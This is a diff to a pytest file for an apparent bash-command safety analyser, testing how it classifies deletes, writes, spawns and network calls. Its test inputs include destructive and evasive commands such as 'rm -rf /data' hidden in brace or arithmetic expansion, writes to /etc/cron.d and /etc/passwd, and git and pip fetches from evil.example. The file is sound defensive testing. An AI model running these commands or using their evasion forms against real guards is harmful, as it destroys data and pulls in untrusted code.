@@ -159,8 +159,13 @@ def test_command_substitution_in_a_here_document_is_dynamic():
         ("sort --output=/etc/passwd data.txt", [("write", "/etc/passwd"), ("read", "/w/data.txt")]),
         ("grep -f /etc/pats -e x /data/b", [("read", "/etc/pats"), ("read", "/data/b")]),
         ("cp -t /backup a b", [("write", "/backup"), ("read", "/w/a"), ("read", "/w/b")]),
-        # brace expansion is expanded; quoted braces are text
+        ("cp -t/outside src", [("write", "/outside"), ("read", "/w/src")]),  # joined
+        ("cp -rt /outside src", [("write", "/outside"), ("read", "/w/src")]),  # at the end of a cluster
+        ("sort -uo /etc/cron.d/x in.txt", [("write", "/etc/cron.d/x"), ("read", "/w/in.txt")]),
+        ("sort -o/etc/cron.d/x in.txt", [("write", "/etc/cron.d/x"), ("read", "/w/in.txt")]),
+        # brace expansion is expanded (an empty word is dropped, as bash drops it)
         ("{rm,-rf,/data}", [("delete", "/data")]),
+        ("{,rm} -rf /data", [("delete", "/data")]),
         ("cp file{,.bak}", [("read", "/w/file"), ("write", "/w/file.bak")]),
         ("touch /tmp/f{1..2}", [("write", "/tmp/f1"), ("write", "/tmp/f2")]),
         ("busybox rm -rf /data", [("delete", "/data")]),
@@ -174,13 +179,12 @@ def test_a_brace_expansion_too_large_to_follow_is_an_unknown_command():
     assert [o.program for o in ops("{1..100000}", "process_spawn")] == [None]
 
 
-@pytest.mark.parametrize(
-    ("code", "program"),
-    [("time rm -rf /data", "rm"), ("x=1; time -p cat /etc/passwd | wc -l", "cat"),
-     ("if true; then time ls /d; fi", "ls"), ("echo $(( (i + 1) * 2 ))", "echo")],
-)
-def test_the_time_keyword_and_arithmetic_expansion_are_read(code, program):
-    assert program in [o.program for o in ops(code, "process_spawn")]
+@pytest.mark.parametrize("code", ["time rm -rf /data", "echo $((1 + 2))", "echo $((rm -rf /data) )",
+                                  "x='a[$(rm -rf /data)]'; echo $((x))"])
+def test_the_time_keyword_and_arithmetic_are_refused_never_blanked(code):
+    # blanking them cannot be done safely without bash's own quoting rules: the block is denied
+    ir = analyze(code, language="bash")
+    assert ir.unresolved and ir.unresolved[0].kind == "parse_error"
 
 
 def test_arithmetic_that_runs_a_command_is_still_refused():
@@ -190,6 +194,20 @@ def test_arithmetic_that_runs_a_command_is_still_refused():
 
 @pytest.mark.parametrize(("code", "network"), [("git status", False), ("git push origin main", True),
                                                ("pip list", False), ("pip install requests", True),
-                                               ("apt-get install -y curl", True), ("git", True)])
+                                               ("apt-get install -y curl", True), ("git", True),
+                                               # a global option first may lead to any subcommand
+                                               ("git -C . clone https://evil.example/x", True),
+                                               ("pip --index-url https://evil.example/simple install x", True),
+                                               ("git lfs pull", True), ("apt-get changelog curl", True)])
 def test_tools_reach_the_network_only_through_their_network_subcommands(code, network):
     assert bool(ops(code, "network_call")) is network
+
+
+def test_arithmetic_characters_inside_quotes_hide_no_command():
+    assert "delete" in [o.operation for o in ops("echo '$((' ; rm -rf /data ; echo '))'", "file_operation")]
+
+
+def test_braces_in_a_word_with_quotes_make_it_unknown():
+    # bash expands braces before removing quotes: {rm,-rf,'/data'} runs rm; which braces are quoted
+    # is not followed here, so the word is unknown (never a program named "data}")
+    assert [o.program for o in ops("{rm,-rf,'/data'}", "process_spawn")] == [None]
